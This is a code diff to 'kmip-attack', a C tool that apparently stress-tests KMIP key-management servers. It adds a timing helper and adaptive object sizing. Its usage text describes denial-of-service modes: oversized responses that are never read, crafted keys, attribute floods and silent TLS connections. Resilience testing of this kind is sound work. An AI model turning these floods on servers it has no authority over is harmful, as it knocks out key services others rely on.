@@ -144,7 +144,26 @@ nap(int ms)
 	(void)nanosleep(&ts, NULL);
 }
 
-/* Starts a request of one batch item header with count items; the caller adds items with item_begin. */
+/* Sleeps until the monotonic clock of util_now() reaches t (seconds), however short the wait. */
+static void
+sleep_until(double t)
+{
+	double now;
+
+	while ((now = util_now()) < t) {
+		double d = t - now;
+		struct timespec ts = { (time_t)d, (long)((d - (double)(time_t)d) * 1e9) + 1 };
+
+		if (ts.tv_nsec >= 1000000000L)
+			ts.tv_sec++, ts.tv_nsec -= 1000000000L;
+		(void)nanosleep(&ts, NULL);
+	}
+}
+
+/*
+ * Starts a request message: its header (KMIP 1.4, a username/password Credential when user is set, Batch
+ * Count count); the caller then adds count items with item_begin() and item_end(), and ends with request_end().
+ */
 static void
 request_begin(struct ttlv_enc *e, unsigned count, const char *user, const char *password)
 {
@@ -894,16 +913,31 @@ attack(struct opts *o)
 		for (i = 0; i < (o->conns ? o->conns : 1); i++)
 			spawn(&k, child_repeat, o, ctx, &req);
 	} else if (strcmp(o->mode, "bigresp") == 0) {
-		enc_register_secret(&req, o->size ? o->size : MIB);
-		cl = connect_retry(o, ctx, NULL);
-		if (exchange(&cl, &req, 1, &resp, &a) != 0 || item_status(resp, 0) != KMIP_RESULT_STATUS_SUCCESS ||
-		    resp_uid(resp, uid, sizeof(uid)) != 0) {
-			fprintf(stderr, "kmip-attack: bigresp: the large object could not be registered\n");
-			return 1;
+		/* The largest Secret Data the server takes, from --size (1 MiB) down, halving on refusal. */
+		size_t size = o->size ? o->size : MIB;
+
+		for (;;) {
+			int ok;
+
+			enc_register_secret(&req, size);
+			cl = connect_retry(o, ctx, NULL);
+			ok = exchange(&cl, &req, 1, &resp, &a) == 0;
+			if (ok) {
+				ok = item_status(resp, 0) == KMIP_RESULT_STATUS_SUCCESS &&
+				    resp_uid(resp, uid, sizeof(uid)) == 0;
+				ttlv_arena_free(a);
+			}
+			ttlv_enc_free(&req);
+			kmip_client_close(cl), cl = NULL;
+			if (ok)
+				break;
+			if ((size /= 2) < 1024) {
+				fprintf(stderr, "kmip-attack: bigresp: no large object could be registered\n");
+				return 1;
+			}
 		}
-		ttlv_arena_free(a);
-		ttlv_enc_free(&req);
-		kmip_client_close(cl), cl = NULL;
+		setup_level = size;
+		fprintf(stderr, "kmip-attack: bigresp: object %s of %zu bytes\n", uid, size);
 		enc_on_uid(&req, KMIP_OPERATION_GET, uid, o->count ? o->count : 64);
 		if (o->conns == 0)
 			o->conns = 40;
@@ -1067,8 +1101,7 @@ run_series(const struct opts *o, SSL_CTX *ctx, enum series_kind kind, double rat
 			s->errors++;
 			continue;
 		}
-		if (due > now)
-			nap((int)((due - now) * 1000));
+		sleep_until(due);
 		sent = util_now();
 		if (cl == NULL)
 			cl = try_connect(o, ctx, NULL, o->timeout_ms);
@@ -1223,7 +1256,8 @@ usage(void)
 	    "  -m rsa       batches of --count (16) crafted Transparent RSA Private Keys, --conns (1) connections\n"
 	    "  -m attrs     one key with --count (60000, halved until accepted) Object Group values, then Get\n"
 	    "               Attributes in a loop on --conns (1); level = values on the object\n"
-	    "  -m bigresp   a --size (1 MiB) Secret Data, then --conns (40) connections each sending --count (64)\n"
+	    "  -m bigresp   a --size (1 MiB, halved until accepted) Secret Data, then --conns (40) connections each\n"
+	    "               sending --count (64)\n"
 	    "               Gets of it in one batch and never reading; level = connections holding one\n"
 	    "  -m handshake --count (300) TCP connections that never send a ClientHello, reopened when closed,\n"
 	    "               and --conns (8) that connect and close again at once; level = silent ones connected\n"
